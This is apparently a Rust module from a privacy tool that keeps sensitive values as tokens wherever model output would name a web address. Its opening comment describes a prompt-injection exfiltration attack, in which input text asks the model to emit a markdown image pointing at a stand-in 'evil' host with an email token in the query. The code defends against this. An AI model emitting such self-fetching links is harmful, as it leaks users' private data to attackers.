//! Where in a text for people a value must stay a token.
//!
//! A chat window fetches an image as soon as its markdown is complete. Text in the model's input,
//! such as a web page, may ask the model for `![](http://evil/?q=EMAIL_…)`. If the token were
//! restored there, showing the answer would send the value away. So four watchers read all emitted
//! text, one for each way in which a text names an address: URLs, link targets, reference
//! definitions, and tags. One veto is enough.
//!
//! The watchers are independent on purpose. Markdown decides by precedence whether a bracket
//! belongs to a link or to a tag, renderers disagree about it, and an attacker would write a text
//! that we and a renderer read differently. A watcher takes every possible opening for a real one
//! and leaves only where every reading has left, so no other watcher's opinion can mislead it. The
//! price is a token that stays where a value would have done no harm.
//!
//! A watcher sees each byte once and keeps no text, so a split of the stream cannot change its
//! result. Its state is a small value: an answer of many texts is read once for each way in which a
//! client may join them ([`crate::Joined`]).
//!
//! Not covered: an address that becomes one only by the text after a value (`EMAIL_…
//! .evil.example`), a list of strings that a program links across its quotes
//! (`"http://evil/","EMAIL_…"`), and an address that a person puts together by hand. No program
//! fetches those by itself.

mod definition;
mod tag;
mod target;
mod url;

use definition::Definition;
use tag::Tag;
use target::LinkTarget;
use url::Url;

/// The state of all watchers after some emitted text.
#[derive(Clone, Copy, Default, PartialEq)]
pub(crate) struct Watchers {
    url: Url,
    target: LinkTarget,
    definition: Definition,
    tag: Tag,
}

impl Watchers {
    /// Reads more emitted text.
    pub(crate) fn read(&mut self, text: &str) {
        for byte in text.bytes() {
            self.url.step(byte);
            self.target.step(byte);
            self.definition.step(byte);
            self.tag.step(byte);
        }
    }

    /// Returns whether a value must not be emitted next.
    pub(crate) fn vetoes(&self) -> bool {
        self.url.vetoes() || self.target.vetoes() || self.definition.vetoes() || self.tag.vetoes()
    }
}

/// Returns whether a byte ends a word. Unicode knows more spaces, but some renderers end an address
/// at fewer, and none at fewer than these.
fn is_space(byte: u8) -> bool {
    matches!(byte, b' ' | b'\t' | b'\n' | b'\r')
}

/// Detects blank lines, which end every paragraph and all that markdown left open in it.
#[derive(Clone, Copy, Default, PartialEq)]
struct BlankLine {
    /// Something other than spaces since the last newline.
    has_content: bool,
}

impl BlankLine {
    /// Reads a byte. Returns true at the newline that ends a blank line.
    fn step(&mut self, byte: u8) -> bool {
        let ended = byte == b'\n' && !self.has_content;
        self.has_content = byte != b'\n' && (self.has_content || !is_space(byte));
        ended
    }
}
